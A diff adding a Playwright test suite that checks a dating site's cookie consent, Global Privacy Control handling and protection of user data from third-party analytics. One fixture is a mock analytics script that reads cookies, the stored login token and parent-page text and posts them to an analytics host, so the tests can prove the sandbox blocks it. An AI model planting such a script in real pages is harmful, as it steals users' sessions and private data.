@@ -1,0 +1,481 @@
+import assert from 'node:assert/strict'
+import { randomUUID } from 'node:crypto'
+import { after, test } from 'node:test'
+import { type Plugin, demoBrands, pluginVendors } from '@incontro/brand'
+import { addBrands, addCouples } from '@incontro/testing/crowd.ts'
+import { productionSettings } from '@incontro/testing/production.ts'
+import { createBrands } from '../apps/server/src/modules/brands/index.ts'
+import { openDatabase } from '../apps/server/src/platform/database/database.ts'
+import { createLog } from '../apps/server/src/platform/log/log.ts'
+import type { Language } from '@incontro/texts'
+import { textsFor } from '@incontro/texts/sync.ts'
+import type { Page, Request } from 'playwright-core'
+import {
+  desktop,
+  expectAccessible,
+  expectNoSideScroll,
+  openBrowser,
+  type PersonPage,
+  phone,
+  startProduct,
+} from './fixtures.ts'
+import { fillCard, fillSignUp } from './people.ts'
+
+// Plug-ins that reach others run in production only, so this is a production server; only its brand is a demo's.
+const product = await startProduct(async (at) => ({
+  ...(await productionSettings(at)),
+  METRICS_TOKEN: 'metrics-token-of-this-test',
+}))
+const database = openDatabase({ connectionString: product.databaseUrl })
+after(() => database.close())
+await addBrands(database)
+const { door: brands } = createBrands({ database, log: createLog('error') })
+
+const own: Plugin = { id: 'page-counts', kind: 'analytics', form: 'own' }
+const plugins: readonly Plugin[] = [
+  own,
+  pluginVendors.matomo({ id: 'matomo', account: '7', company: 'Matomo Host', host: 'stats.example' }),
+  pluginVendors.googleAnalytics({ id: 'google', account: 'G-TEST' }),
+  pluginVendors.metaPixel({ id: 'meta', account: '4711' }),
+  {
+    ...{ id: 'film', kind: 'recording', form: 'recorder', name: 'Film', company: 'Film Ltd', account: '1', hosts: [] },
+    ...{
+      privacyUrl: 'https://film.example/privacy',
+      keeps: [],
+      url: 'https://film.example/in/{account}',
+      percent: 100,
+    },
+  },
+]
+async function givePlugins(brandId: string, given: readonly Plugin[]): Promise<void> {
+  const demo = demoBrands.find(({ brand }) => brand.id === brandId)
+  assert.ok(demo)
+  const brand = { ...demo.brand, demo: false, plugins: given }
+  await database.transaction((tx) => brands.saveBrand(tx, brand, demo.hosts))
+  await until('the new settings', async () => {
+    const html = await (await fetch(product.url)).text()
+    return (
+      given.every(({ id }) => html.includes(`"id":"${id}"`)) && html.split('"question":').length === given.length + 1
+    )
+  })
+}
+await givePlugins('original', plugins)
+
+/** What stands in for Google's script: it tells of each call, and of all that it can see. */
+const fakeScript = `
+  const look = (what) => { try { return String(what()) } catch { return '' } }
+  const tell = (call) => call[0] === 'event' && fetch('https://www.google-analytics.com/g/collect', { method: 'POST', mode: 'no-cors',
+    body: JSON.stringify({ call: [...call], cookie: document.cookie, token: look(() => localStorage.getItem('token')), page: look(() => parent.document.body.innerText),
+      parent: look(() => parent.location.href), referrer: document.referrer, address: location.pathname }) })
+  dataLayer.forEach(tell)
+  const push = dataLayer.push.bind(dataLayer)
+  dataLayer.push = (call) => { tell(call); return push(call) }`
+const dot = Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64')
+
+type Contact = {
+  readonly host: string
+  readonly url: string
+  readonly body: string
+  readonly headers: Record<string, string>
+}
+
+/** Every host is caught: our own two go through, all others are noted and answered here. */
+async function watch(page: Page): Promise<{ foreign: Contact[]; views: () => number }> {
+  const foreign: Contact[] = []
+  let views = 0
+  const ports = [product.url, product.paymentUrl].map((url) => new URL(url).port)
+  await page.context().route('**/*', async (route, request: Request) => {
+    const url = new URL(request.url())
+    const isOwn = /(^|\.)localhost$/.test(url.hostname) && ports.includes(url.port)
+    if (isOwn) {
+      if (url.pathname === '/api/log/view') views += 1
+      return route.continue()
+    }
+    foreign.push({ host: url.host, url: url.href, body: request.postData() ?? '', headers: await request.allHeaders() })
+    if (url.pathname === '/gtag/js') return route.fulfill({ contentType: 'text/javascript', body: fakeScript })
+    if (request.resourceType() === 'image') return route.fulfill({ contentType: 'image/gif', body: dot })
+    return route.fulfill({ status: 204 })
+  })
+  return { foreign, views: () => views }
+}
+
+/** Waits for what must still come. */
+async function until(what: string, isSo: () => boolean | Promise<boolean>): Promise<void> {
+  const giveUp = Date.now() + 10_000
+  while (!(await isSo())) {
+    assert.ok(Date.now() < giveUp, `${what} did not come`)
+    await new Promise((resolve) => setTimeout(resolve, 50))
+  }
+}
+/** Everything that the page has begun has ended: what would be sent has been. */
+const rest = (page: Page) => page.waitForLoadState('networkidle')
+
+function question(page: Page, language: Language) {
+  const words = textsFor(language, 'consent')
+  const banner = page.getByRole('region', { name: words.banner.title })
+  const press = (action: 'acceptAll' | 'refuseAll' | 'choose') =>
+    banner.getByRole('button', { name: words.actions[action] }).click()
+  return { banner, words, press }
+}
+
+/** Sign-up, and an attempt to pay that the bank declines. */
+async function signUpAndTryToPay(page: Page, language: Language): Promise<void> {
+  await page.goto(`${product.url}/signup?tid=${randomUUID()}&campid=secret-campaign&fluxid=7`)
+  await fillSignUp(page, { language, city: 'Madrid' })
+  await page.goto(`${product.url}/vip_plan/cred`)
+  await page.getByRole('radio', { name: /Prova/ }).check({ force: true })
+  await page.getByRole('button', { name: textsFor(language, 'plans').continueWith('Prova') }).click()
+  await page.frameLocator('iframe:not([hidden])').locator('#number').waitFor()
+  await fillCard(page, '4000000000000002')
+  const words = textsFor(language, 'pay')
+  await page.getByRole('checkbox', { name: words.order.startNow }).check()
+  await page.getByRole('button', { name: words.order.button }).click()
+  await page.getByRole('dialog').getByText(words.messages.card_declined.title).waitFor()
+}
+
+const openWith = async (look: Parameters<typeof openBrowser>[0] = {}) => {
+  const page = await openBrowser({ viewport: desktop, ...look })
+  return { page, seen: await watch(page) }
+}
+const answerOf = (page: PersonPage) =>
+  page.evaluate(() => JSON.parse(localStorage.getItem('cookiePolicy') ?? 'null') as Record<string, unknown> | null) // what the page kept
+
+test(
+  'TR-08 TR-09 D12 no other host is contacted before consent, nor after refusal; refusing is told to the server',
+  { timeout: 60_000 },
+  async () => {
+    const { page, seen } = await openWith()
+    const { banner, press } = question(page, 'es')
+    for (const path of ['/', '/login', '/legal/terms', '/']) {
+      await page.goto(`${product.url}${path}`)
+      await banner.waitFor()
+      await rest(page)
+    }
+    assert.deepEqual([seen.foreign, seen.views()], [[], 0])
+    await press('refuseAll')
+    await signUpAndTryToPay(page, 'es')
+    await page.goto(`${product.url}/find`)
+    await rest(page)
+    assert.equal(await banner.count(), 0)
+    assert.deepEqual([seen.foreign, seen.views()], [[], 0])
+    const answer = await answerOf(page)
+    assert.deepEqual(answer?.['choice'], { analytics: false, marketing: false, recording: false })
+    assert.deepEqual([answer['how'], answer['textVersion']], ['refuse_all', '2026-11']) // UI-12: with version and time
+    assert.ok(Math.abs(Number(answer['at']) - Date.now()) < 120_000)
+    const { rows } = await database.pool.query(
+      'select how, marketing, count(m.*)::int as joined from consent_choices c left join consent_choice_members m on m.choice_id = c.id where c.id = $1 group by c.id',
+      [answer['id']],
+    )
+    assert.deepEqual(rows, [{ how: 'refuse_all', marketing: false, joined: 1 }]) // it went with him into his account
+    assert.deepEqual(page.faults, [])
+  },
+)
+
+test(
+  'D12 UI-12 under Global Privacy Control nobody is asked, nothing runs, and the settings say why; it takes back a consent',
+  { timeout: 60_000 },
+  async () => {
+    const { page, seen } = await openWith()
+    const { banner, words, press } = question(page, 'es')
+    await page.goto(product.url)
+    await press('acceptAll')
+    await until('a contact', () => seen.foreign.length > 0)
+    await rest(page)
+
+    await page.context().addInitScript('Object.defineProperty(navigator, "globalPrivacyControl", { value: true })')
+    await page.context().setExtraHTTPHeaders({ 'sec-gpc': '1' })
+    await page.goto('about:blank')
+    seen.foreign.length = 0
+    const viewsBefore = seen.views()
+    await signUpAndTryToPay(page, 'es')
+    assert.equal(await banner.count(), 0)
+    assert.deepEqual([seen.foreign, seen.views()], [[], viewsBefore])
+    assert.equal((await answerOf(page))?.['how'], 'signal')
+
+    await page.goto(`${product.url}/profile/privacy`)
+    await page.getByText(words.card.how.signal, { exact: true }).waitFor()
+    await page.getByRole('button', { name: words.actions.change }).click()
+    const dialog = page.getByRole('dialog')
+    await dialog.getByText(words.signal.title).waitFor()
+    for (const each of await dialog.getByRole('switch').all())
+      assert.deepEqual([await each.isDisabled(), await each.isChecked()], [true, false])
+    await expectAccessible(page)
+    assert.deepEqual(page.faults, [])
+  },
+)
+
+test(
+  'TR-08 TR-09 D12 after consent exactly the brand’s hosts hear of it, of lead and tentativo once each, and of nobody; after withdrawal nothing',
+  { timeout: 90_000 },
+  async () => {
+    const { page, seen } = await openWith()
+    const { words, press } = question(page, 'es')
+    await page.goto(`${product.url}/?tid=${randomUUID()}`)
+    await press('acceptAll')
+    await signUpAndTryToPay(page, 'es')
+    await until('the recording', () => seen.foreign.some(({ host }) => host === 'film.example'))
+    await rest(page)
+
+    assert.deepEqual([...new Set(seen.foreign.map(({ host }) => host))].sort(), [
+      'film.example',
+      'stats.example',
+      'www.facebook.com',
+      'www.google-analytics.com',
+      'www.googletagmanager.com',
+    ])
+    const count = (part: string) => seen.foreign.filter(({ url, body }) => `${url} ${body}`.includes(part)).length
+    assert.deepEqual([count('tr?id=4711&ev=Lead'), count('tr?id=4711&ev=InitiateCheckout')], [1, 1])
+    assert.deepEqual([count('e_a=lead'), count('e_a=attempt')], [1, 1])
+    assert.deepEqual([count('"generate_lead"'), count('"begin_checkout"')], [1, 1])
+    assert.ok(seen.views() > 3)
+
+    const kept = await page.evaluate(() => ({ ...localStorage }) as Record<string, string>) // its entries
+    const email = await database.pool.query<{ email: string }>('select email from members where tracker_id = $1', [
+      kept['trackerId'],
+    ])
+    const secrets = [email.rows[0]?.email, 'demo-password', kept['token'], kept['trackerId'], kept['fingerprint']]
+    for (const secret of [...secrets, '4000000000000002', '4000 0000', 'secret-campaign', 'tid=']) {
+      assert.ok(secret !== undefined && secret.length > 3)
+      for (const { url, body, headers } of seen.foreign)
+        for (const text of [url, decodeURIComponent(url), body, JSON.stringify(headers)])
+          assert.ok(!text.includes(secret), `${secret} in ${url} ${text.slice(0, 300)}`)
+    }
+    for (const { headers } of seen.foreign) assert.equal(headers['referer'], undefined)
+    const told = seen.foreign.find(({ host }) => host === 'www.google-analytics.com')
+    assert.ok(told)
+    const { call, ...sight } = JSON.parse(told.body) as { call: unknown[] } & Record<string, string> // written by the script above
+    assert.equal(call[0], 'event')
+    assert.deepEqual(sight, {
+      cookie: '',
+      token: 'null',
+      page: '',
+      parent: '',
+      referrer: '',
+      address: '/plugin/google',
+    })
+    const film = seen.foreign.filter(({ host }) => host === 'film.example').map(({ body }) => body)
+    for (const word of ['Prova', textsFor('es', 'plans').continueWith('Prova'), 'Madrid', 'Carmen'])
+      for (const body of film) assert.ok(!body.includes(word), `'${word}' was recorded`)
+
+    await page.goto(`${product.url}/profile/privacy`)
+    await page.getByText(words.card.how.accept_all, { exact: true }).waitFor()
+    await page.getByRole('button', { name: words.actions.change }).click()
+    await page.getByRole('dialog').getByRole('button', { name: words.actions.refuseAll }).click()
+    await page.getByText(words.card.refused).waitFor()
+    await page.getByText(words.card.how.refuse_all, { exact: true }).waitFor() // D12: both answers stand in the history
+    assert.equal(await page.getByText(words.card.how.accept_all, { exact: true }).count(), 1)
+    assert.equal(await page.locator('iframe').count(), 0)
+    await rest(page)
+    seen.foreign.length = 0
+    const viewsBefore = seen.views()
+    await page
+      .getByRole('link', { name: textsFor('es', 'common').nav.chats })
+      .first()
+      .click()
+    await page.waitForURL('**/chats')
+    await page.mouse.move(300, 300)
+    await page.goto(`${product.url}/find`)
+    await rest(page)
+    assert.deepEqual([seen.foreign, seen.views()], [[], viewsBefore])
+    assert.deepEqual(page.faults, [])
+  },
+)
+
+test(
+  'TR-09 D12 what is written in a chat is in no recording and goes to nobody else',
+  { timeout: 60_000 },
+  async () => {
+    const [couple] = await addCouples(database, 1, 50)
+    assert.ok(couple)
+    const { page, seen } = await openWith()
+    const { press } = question(page, 'es')
+    await page.goto(`${product.url}/login`)
+    await press('acceptAll')
+    await page.evaluate(
+      ([token, trackerId]) => {
+        localStorage.setItem('token', token)
+        localStorage.setItem('trackerId', trackerId)
+      },
+      [couple.member.token, couple.member.trackerId] as const,
+    )
+    seen.foreign.length = 0
+    await page.goto(`${product.url}/chats/${couple.angelId}`)
+    await page.getByRole('textbox').fill('Quedamos en la plaza del reloj')
+    await page.getByRole('textbox').press('Enter')
+    await page.getByText('Quedamos en la plaza del reloj').first().waitFor()
+    const films = () => seen.foreign.filter(({ host }) => host === 'film.example').length
+    const before = films()
+    await until('a recording of it', () => films() > before)
+    for (const { url, body } of seen.foreign)
+      for (const secret of [
+        'Quedamos',
+        'reloj',
+        'Carmen',
+        couple.angelId,
+        couple.member.trackerId,
+        couple.member.token,
+      ])
+        assert.ok(!`${decodeURIComponent(url)} ${body}`.includes(secret), `${secret} went to ${url}`)
+    assert.ok(seen.foreign.some(({ url }) => url.includes(encodeURIComponent('/chats'))))
+  },
+)
+
+test('UI-12 each purpose by itself: what was not ticked stays silent; a new plug-in is asked about at the next page', async () => {
+  const { page, seen } = await openWith({ language: 'it' })
+  const { banner, words, press } = question(page, 'it')
+  await page.goto(product.url)
+  await press('choose')
+  const dialog = page.getByRole('dialog')
+  await dialog.getByText('film.example').waitFor() // who receives it, and where
+  for (const each of await dialog.getByRole('switch').all()) assert.equal(await each.isChecked(), false)
+  await dialog.getByRole('switch', { name: words.settings.purposes.marketing.title }).check()
+  await dialog.getByRole('button', { name: words.actions.save }).click()
+  await banner.waitFor({ state: 'detached' })
+  await page.reload()
+  await rest(page)
+  assert.equal(await banner.count(), 0)
+  assert.deepEqual([seen.foreign, seen.views()], [[], 0]) // a pixel waits for a lead
+  assert.deepEqual((await answerOf(page))?.['choice'], { analytics: false, marketing: true, recording: false })
+
+  await givePlugins('original', [...plugins, pluginVendors.metaPixel({ id: 'other', account: '2' })])
+  await page.reload()
+  await rest(page)
+  assert.equal(await banner.count(), 0) // the same company, purpose and host: nothing new to ask
+  const another = { ...pluginVendors.metaPixel({ id: 'other', account: '2' }), company: 'Another Ltd' }
+  await givePlugins('original', [...plugins, another])
+  await page.reload()
+  await banner.waitFor()
+  assert.deepEqual(seen.foreign, [])
+  await givePlugins('original', plugins)
+  await page.reload()
+  await rest(page)
+  assert.equal(await banner.count(), 0)
+
+  await page.clock.install({ time: Date.now() + 364 * 86_400_000 })
+  await page.reload()
+  await page.getByRole('link', { name: textsFor('it', 'home').actions.signUp }).waitFor()
+  assert.equal(await banner.count(), 0)
+  await page.clock.setSystemTime(Date.now() + 366 * 86_400_000)
+  await page.reload()
+  await banner.waitFor()
+})
+
+for (const [language, colorScheme] of [
+  ['en', 'light'],
+  ['es', 'dark'],
+  ['fr', 'light'],
+  ['it', 'dark'],
+] as const)
+  test(`UI-12 the question in ${language} leaves the page alone: same weight, nothing covered, by keyboard, reopened from the foot`, async () => {
+    const page = await openBrowser({ viewport: phone, colorScheme, language })
+    const { banner, words } = question(page, language)
+    await page.goto(product.url)
+    await banner.waitFor()
+    assert.equal(await page.evaluate(() => document.activeElement === document.body), true) // it takes no focus
+    await expectAccessible(page)
+    await expectNoSideScroll(page)
+    const [yes, no] = [
+      banner.getByRole('button', { name: words.actions.acceptAll }),
+      banner.getByRole('button', { name: words.actions.refuseAll }),
+    ]
+    const lookOf = (button: typeof yes) =>
+      button.evaluate((element) => {
+        const { color, backgroundColor, borderColor, fontSize, fontWeight } = getComputedStyle(element)
+        const { width, height } = element.getBoundingClientRect()
+        return {
+          color,
+          backgroundColor,
+          borderColor,
+          fontSize,
+          fontWeight,
+          width: Math.round(width),
+          height: Math.round(height),
+        }
+      })
+    assert.deepEqual(await lookOf(yes), await lookOf(no))
+    const [top, main] = [
+      (await banner.boundingBox())?.y,
+      await page
+        .getByRole('link', { name: textsFor(language, 'home').actions.signUp })
+        .first()
+        .boundingBox(),
+    ]
+    assert.ok(top !== undefined && main !== null && main.y + main.height <= top, 'the main button is covered')
+    const foot = page.getByRole('button', { name: textsFor(language, 'common').footer.privacySettings })
+    await foot.scrollIntoViewIfNeeded()
+    const footBox = await foot.boundingBox()
+    assert.ok(footBox !== null && footBox.y + footBox.height <= top, 'the end of the page is covered')
+
+    await page.evaluate(() => scrollTo(0, 0))
+    await page.getByRole('link', { name: textsFor(language, 'common').actions.skipToContent }).focus()
+    for (const name of [words.actions.policy, words.actions.refuseAll, words.actions.acceptAll, words.actions.choose]) {
+      await page.keyboard.press('Tab')
+      assert.equal(await page.evaluate(() => document.activeElement?.textContent), name)
+    }
+    await page.keyboard.press('Enter')
+    await page.getByRole('dialog', { name: words.settings.title }).waitFor()
+    await expectAccessible(page)
+    await page.keyboard.press('Escape')
+    await banner.waitFor() // leaving the settings is no answer
+    assert.equal(await answerOf(page), null)
+    await no.click()
+    await banner.waitFor({ state: 'detached' })
+    await foot.click()
+    await page.getByRole('dialog', { name: words.settings.title }).waitFor()
+    await page.keyboard.press('Escape')
+
+    await page.goto(`${product.url}/legal/cookie`)
+    const paper = page.locator('article')
+    await paper.getByRole('heading', { level: 1 }).waitFor()
+    for (const text of ['Meta Platforms Ireland Limited', 'www.facebook.com', 'stats.example', 'Film Ltd'])
+      await paper.getByText(text, { exact: false }).first().waitFor()
+    await expectAccessible(page)
+    await expectNoSideScroll(page)
+    assert.deepEqual(page.faults, [])
+  })
+
+test(
+  'UI-12 a brand without plug-ins asks nothing and says so; the cookie page lists all that a browser keeps',
+  { timeout: 60_000 },
+  async () => {
+    const { page, seen } = await openWith({ language: 'en' })
+    const url = product.urlOf('mylikezone')
+    await page.goto(`${url}/legal/cookie`)
+    await page.getByRole('heading', { name: /Nothing that needs your consent/ }).waitFor()
+    assert.equal(await question(page, 'en').banner.count(), 0)
+    assert.equal(await page.getByRole('button', { name: textsFor('en', 'common').footer.privacySettings }).count(), 0)
+    assert.equal(await page.getByText('facebook').count(), 0)
+
+    await page.goto(`${url}/signup?tid=${randomUUID()}`)
+    await fillSignUp(page, { language: 'en', city: 'London' })
+    for (const path of ['/chats', '/notifications', '/vip_plan/cred']) {
+      await page.goto(`${url}${path}`)
+      await rest(page)
+    }
+    await page.getByRole('radio', { name: /Prova/ }).check({ force: true })
+    await page.getByRole('button', { name: textsFor('en', 'plans').continueWith('Prova') }).click()
+    await page.frameLocator('iframe').locator('#number').waitFor()
+    const kept = await page.evaluate(async () => [
+      ...Object.keys(localStorage),
+      ...Object.keys(sessionStorage),
+      ...(await indexedDB.databases()).map(({ name }) => name ?? ''),
+      ...document.cookie.split('; ').filter((text) => text !== ''),
+    ])
+    assert.ok(kept.includes('token') && kept.length > 6)
+    await page.goto(`${url}/legal/cookie`)
+    await page.locator('article code').first().waitFor()
+    const listed = await page.locator('article code').allInnerTexts()
+    assert.deepEqual(
+      kept.filter((key) => !listed.some((name) => key === name || (name.endsWith(':') && key.startsWith(name)))),
+      [],
+    )
+    assert.deepEqual(seen.foreign, [])
+  },
+)
+
+test('TR-09 the brand’s own count is what the pages told, and the operator can read it', async () => {
+  const answer = await fetch(`${product.url}/metrics`, {
+    headers: { authorization: 'Bearer metrics-token-of-this-test' },
+  })
+  assert.match(await answer.text(), /page_views_today\{brand="original",path="\/chats"\} \d/)
+})
